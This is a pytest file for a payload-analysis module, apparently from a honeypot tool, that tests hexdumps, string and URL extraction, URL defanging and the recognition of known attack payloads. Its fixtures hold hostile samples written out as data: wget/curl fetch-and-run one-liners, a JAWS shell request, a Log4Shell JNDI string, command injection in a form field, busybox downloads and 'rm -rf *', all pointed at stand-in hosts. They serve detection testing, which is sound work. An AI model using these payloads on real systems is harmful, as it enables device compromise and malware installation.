"""What a person sees of a payload: hexadecimal, strings, URLs, commands, and what it is known as."""

import re

import pytest
from payload_family import DAHUA, DAHUA_DUMP, SAMPLES, TR069

from varde.decode.payload import KNOWN, Text, commands, defang, hexdump, known, strings, urls


def test_the_dump_of_the_article_comes_out() -> None:
    lines = [re.sub(" +", " ", line).rstrip() for line in hexdump(DAHUA)]
    assert lines == [line.rstrip() for line in DAHUA_DUMP]


def test_a_dump_has_two_groups_and_keeps_the_last_row_in_place() -> None:
    assert hexdump(b"ABCDEFGHIJKLMNOPQ~\x7f\xff") == [
        "00000000  41 42 43 44 45 46 47 48  49 4a 4b 4c 4d 4e 4f 50  ABCDEFGH IJKLMNOP",
        "00000010  51 7e 7f ff                                       Q~..",
    ]
    assert hexdump(b"") == []


def test_rows_that_repeat_are_folded_and_can_be_had() -> None:
    data = b"A" + bytes(16 * 10)
    assert hexdump(data)[1:] == ["00000010  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  ........ ........", "*", hexdump(data)[-1]]
    assert hexdump(bytes(64))[-2:] == ["*", "00000040"]
    assert len(hexdump(data, fold=False)) == 11


def test_a_dump_can_be_read_back() -> None:
    data = bytes(range(256)) * 3 + b"tail"
    back = b"".join(bytes.fromhex(line[10:59]) for line in hexdump(data, fold=False))
    assert back == data


def test_strings_are_found_in_both_encodings() -> None:
    data = b"\x00abc\x00abcd\x01\xff" + "héllo".encode("utf-16-le") + b"\x00\x00" + "wide".encode("utf-16-le") + b"\xff"
    assert Text(5, "ascii", "abcd") in strings(data)
    assert [(run.encoding, run.text) for run in strings(data)] == [("ascii", "abcd"), ("utf-16le", "wide")]
    assert any("NewNTPServer1" in run.text for run in strings(TR069))


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (TR069, ["hxxp://l.ocalhost.host/2"]),
        (b"GET /shell?cd+/tmp;wget+http://192.0.2.1:8080/jaws;sh+jaws HTTP/1.1\r\n\r\n", ["http://192.0.2.1:8080/jaws"]),
        (b"GET /?u=http%3A%2F%2Fexample.net%2Fa%20b HTTP/1.1\r\n\r\n", ["http://example.net/a"]),
        (b"x=${jndi:ldap://192.0.2.1:1389/Basic/a} and HTTPS://Example.org.", ["ldap://192.0.2.1:1389/Basic/a", "HTTPS://Example.org"]),
        (b"curl -O http://192.0.2.1/a.sh&&sh a.sh || wget http://192.0.2.1/a.sh", ["http://192.0.2.1/a.sh"]),
        (b"http:// nothing, ://, xhttp://no", []),
    ],
)  # fmt: skip
def test_urls_are_found_once_each(data: bytes, found: list[str]) -> None:
    assert urls(data) == found


@pytest.mark.parametrize(
    ("text", "safe"),
    [("get http://192.0.2.1/x.sh now", "get hxxp://192[.]0[.]2[.]1/x.sh now"), ("HTTPS://a.example.org", "hxxps://a[.]example[.]org"), ("ftp://h.example/a", "fxp://h[.]example/a"),
     ("hxxp://l.ocalhost.host/2", "hxxp://l[.]ocalhost[.]host/2"), ("ldap://192.0.2.1:389/a", "ldap://192[.]0[.]2[.]1:389/a"), ("no url. here", "no url. here")],
)  # fmt: skip
def test_a_defanged_url_is_no_link_and_stays_what_it_is_a_second_time(text: str, safe: str) -> None:
    assert defang(text) == safe
    assert defang(safe) == safe


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (TR069, ["cd /tmp", "wget hxxp://l.ocalhost.host/2", "chmod 777 2", "./2"]),
        (b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/j;/tmp/j+jaws HTTP/1.1\r\nHost: x\r\n\r\n", ["cd /tmp", "rm -rf *", "wget http://192.0.2.1/j", "/tmp/j jaws"]),
        (b"<a>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/h -r /h)</a>", ["/bin/busybox wget -g 192.0.2.1 -l /tmp/h -r /h"]),
        (b"enable\r\nsystem\r\nsh\r\n/bin/busybox ECCHI\r\n", ["enable", "system", "sh", "/bin/busybox ECCHI"]),
        (b"POST /x HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nhost=%3bcd+/tmp;curl+-O+http://192.0.2.1/a%3b", ["cd /tmp", "curl -O http://192.0.2.1/a"]),
        (b"GET / HTTP/1.1\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n", []),
        (b"Wget/1.21 (linux-gnu) sh is a shell, cat is a cat\r\n", []),
    ],
)  # fmt: skip
def test_commands_are_found_and_plain_text_has_none(data: bytes, found: list[str]) -> None:
    assert commands(data) == found


# ---- known payloads ----


@pytest.mark.parametrize(("name", "data"), SAMPLES, ids=[f"{number}-{name}" for number, (name, _) in enumerate(SAMPLES)])
def test_each_sample_is_known_by_its_name(name: str, data: bytes) -> None:
    found = known(data)
    assert found is not None
    assert found.name == name


def test_the_payloads_of_the_articles_are_known() -> None:
    assert [row.name for row in (known(TR069), known(DAHUA)) if row] == ["TR-069 SetNTPServers injection", "Dahua UPnP port map"]


def test_every_row_has_a_sample_a_sentence_a_reference_and_a_name_of_its_own() -> None:
    assert {name for name, _ in SAMPLES} == {row.name for row in KNOWN}
    assert len({row.name for row in KNOWN}) == len(KNOWN)
    for row in KNOWN:
        assert row.sentence.endswith(".") and row.sentence[0].isupper(), row.name
        assert row.reference.startswith("https://"), row.name


@pytest.mark.parametrize(
    "data",
    [b"", b"GET / HTTP/1.1\r\nHost: example.net\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nCookie: a=${b}\r\n\r\n", b"POST /a.js HTTP/1.1\r\n\r\nvar f = function() { return 1; }",
     b"SSH-2.0-OpenSSH_9.6\r\n", b"EHLO mail.example.net\r\n", bytes(64), b"\x03\x00", b"root\r\nadmin\r\n", b"STATUS\r\n"],
)  # fmt: skip
def test_ordinary_payloads_are_not_known(data: bytes) -> None:
    assert known(data) is None
